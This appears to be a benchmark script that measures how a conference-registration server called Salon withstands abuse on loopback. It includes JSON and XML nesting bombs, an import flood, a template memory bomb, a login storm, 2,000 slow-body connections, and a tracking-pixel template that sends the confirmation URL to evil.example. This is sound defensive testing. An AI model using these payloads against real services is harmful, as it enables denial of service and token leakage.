#!/usr/bin/env python3
"""What an anonymous client, a careless import or a login storm costs a running Salon
(docs/security.md): the figures in bench/README.md ("Abuse") come from this script.

    target/release/salon migrate
    target/release/salon admin create --email admin@example.ma   # password: attack password 1
    target/release/salon demo
    SALON__RATE_LIMIT__PER_MINUTE=1000000 target/release/salon serve &   # no budget: the worst case
    python3 bench/abuse.py http://127.0.0.1:8080 $(pgrep -f 'salon serve')

Only the server given is contacted (loopback); every loop is bounded.
"""
import json, socket, sys, threading, time, urllib.request, urllib.error, os, statistics

BASE = sys.argv[1]
PID = int(sys.argv[2])

def req(method, path, body=None, headers=None, raw=None):
    h = dict(headers or {})
    data = None
    if body is not None:
        data = json.dumps(body).encode(); h.setdefault("content-type", "application/json")
    if raw is not None:
        data = raw
    r = urllib.request.Request(BASE + path, data=data, method=method, headers=h)
    t = time.perf_counter()
    try:
        with urllib.request.urlopen(r, timeout=60) as res:
            out = res.read(); code = res.status
    except urllib.error.HTTPError as e:
        out = e.read(); code = e.code
    return code, out, time.perf_counter() - t

def mem():
    s = open(f"/proc/{PID}/status").read()
    get = lambda k: int([l for l in s.splitlines() if l.startswith(k)][0].split()[1]) // 1024
    return f"RSS {get('VmRSS:')} MiB, peak {get('VmHWM:')} MiB"

print("start:", mem())
code, out, _ = req("POST", "/api/v1/auth/tokens", {"email": "admin@example.ma", "password": "attack password 1", "name": "attack"})
admin = json.loads(out)["token"]
auth = {"authorization": f"Bearer {admin}"}

members = ",".join(f'"m{i:04}":1' for i in range(6400))
bomb = ('{' + members + ',"name":"A","email":"a@example.ma","consent":true}').encode()
print("bomb bytes", len(bomb))
code, out, t = req("POST", "/api/v1/events/siccam/registrations", raw=bomb, headers={"content-type": "application/json"})
print(f"1 bomb: {code} in {t*1000:.1f} ms, {len(json.loads(out)['errors'])} errors")
code, out, t = req("POST", "/api/v1/me/bookings", raw=bomb, headers={"content-type": "application/json", "authorization": "Bearer slr_00000000000000000000000000000000000000000000"})
print(f"/me/bookings bad token + bomb: {code} in {t*1000:.1f} ms")

# Reads of the programme while 4 clients send bombs.
def reads(n=40):
    ts = []
    for _ in range(n):
        c, _, t = req("GET", "/events/siccam")
        assert c == 200
        ts.append(t * 1000)
    ts.sort(); return f"median {statistics.median(ts):.1f} ms, p95 {ts[int(len(ts)*0.95)-1]:.1f} ms, max {ts[-1]:.1f} ms"
print("programme page alone:", reads())
stop = False; counts = {}
def bomber():
    while not stop:
        c, _, _ = req("POST", "/api/v1/events/siccam/registrations", raw=bomb, headers={"content-type": "application/json"})
        counts[c] = counts.get(c, 0) + 1
ths = [threading.Thread(target=bomber) for _ in range(4)]
[t.start() for t in ths]
time.sleep(0.5)
print("programme page with 4 bombers:", reads(), end=" ")
stop = True; [t.join() for t in ths]
print("bomber answers", counts)

deep = ("<schedule>" + "<a>" * 20000 + "</a>" * 20000 + "</schedule>").encode()
code, out, t = req("POST", "/api/v1/events/siccam/schedule/import", raw=deep, headers={**auth, "content-type": "application/xml"})
print(f"20,000-deep XML: {code} in {t*1000:.1f} ms; healthz {req('GET', '/healthz')[0]}")
deepj = ('{"schedule":' + "[" * 20000 + "]" * 20000 + "}").encode()
code, out, t = req("POST", "/api/v1/events/siccam/schedule/import", raw=deepj, headers={**auth, "content-type": "application/json"})
print(f"20,000-deep JSON import: {code} in {t*1000:.1f} ms")

days = ",".join(["1"] * 1_990_000)
flood = ('{"schedule":{"conference":{"days":[' + days + ']}}}').encode()
code, out, t = req("POST", "/api/v1/events/siccam/schedule/import", raw=flood, headers={**auth, "content-type": "application/json"})
print(f"c3voc flood ({len(flood)} bytes, 1.99M bad days): {code}, {len(out)} bytes in {t*1000:.0f} ms; {mem()}")

tpl = {"subject": "{{ event_name }}", "text": "{% if name != \"sample name\" %}{% set a = \"x\"*100000000 %}{{a}}{{a}}{% endif %}", "html": "<p>x</p>"}
code, out, t = req("PUT", "/api/v1/events/siccam/email-templates/registration_confirm/fr", tpl, headers=auth)
print(f"template bomb: {code} {json.loads(out)['errors'][0]['message'][:80]}")
tpl = {"subject": "{{ event_name }}", "text": "{{ confirm_url }}", "html": "<img src=\"https://evil.example/p.gif?t={{ confirm_url }}\">"}
code, out, t = req("PUT", "/api/v1/events/siccam/email-templates/registration_confirm/fr", tpl, headers=auth)
print(f"tracking pixel: {code} {json.loads(out)['errors'][0]['message'][:80]}")

# Logins: 400 failures, 8 at a time.
before = mem()
res = {}
def login(i):
    c, _, _ = req("POST", "/api/v1/auth/tokens", {"email": f"nobody{i}@example.ma", "password": "wrong password!", "name": "x"})
    res[c] = res.get(c, 0) + 1
t0 = time.perf_counter()
for r in range(50):
    ths = [threading.Thread(target=login, args=(r * 8 + i,)) for i in range(8)]
    [t.start() for t in ths]; [t.join() for t in ths]
print(f"400 failed logins 8 at a time in {time.perf_counter()-t0:.1f} s: {res}; before: {before}; after: {mem()}")

# Slow bodies: 2,000 connections that send a head and one byte.
def slow():
    s = socket.create_connection(("127.0.0.1", int(BASE.rsplit(":", 1)[1])))
    s.sendall(b"POST /api/v1/registrations/confirm HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 60000\r\n\r\n{")
    return s
t0 = time.perf_counter()
socks = [slow() for _ in range(2000)]
c, _, t = req("GET", "/readyz")
print(f"2,000 slow bodies open: /readyz {c} in {t*1000:.1f} ms")
closed = 0; first408 = None
for s in socks:
    s.settimeout(30)
    try:
        data = b""
        while True:
            chunk = s.recv(4096)
            if not chunk: break
            data += chunk
        if data.startswith(b"HTTP/1.1 408"): closed += 1
    except Exception as e:
        pass
    s.close()
print(f"slow bodies answered 408 and closed: {closed}/2000, the last after {time.perf_counter()-t0:.1f} s; {mem()}")
